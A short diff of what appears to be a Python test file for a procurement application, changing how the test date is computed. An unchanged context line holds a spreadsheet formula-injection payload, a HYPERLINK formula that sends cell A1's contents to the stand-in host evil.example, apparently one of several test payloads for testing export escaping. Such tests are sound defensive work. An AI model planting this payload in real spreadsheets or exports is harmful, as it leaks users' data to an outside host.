@@ -22,7 +22,7 @@ from tests.factories import MemberStateFactory
 from tests.procurement.helpers import bid, category, to_tendering
 from tests.secretariat.fund_fixtures import receive
 
-TODAY = dt.date.today()
+TODAY = timezone.localdate()
 CENT = Decimal("0.01")
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
 # One payload per dangerous first character.
